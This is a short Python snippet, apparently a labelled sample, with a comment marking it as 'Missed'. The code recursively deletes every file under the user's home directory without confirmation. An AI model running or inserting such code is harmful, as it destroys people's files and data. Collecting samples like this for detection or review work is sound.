# Missed: what the loop's name stands for is not followed
from pathlib import Path
for p in Path.home().rglob("*"):
    if p.is_file():
        p.unlink()
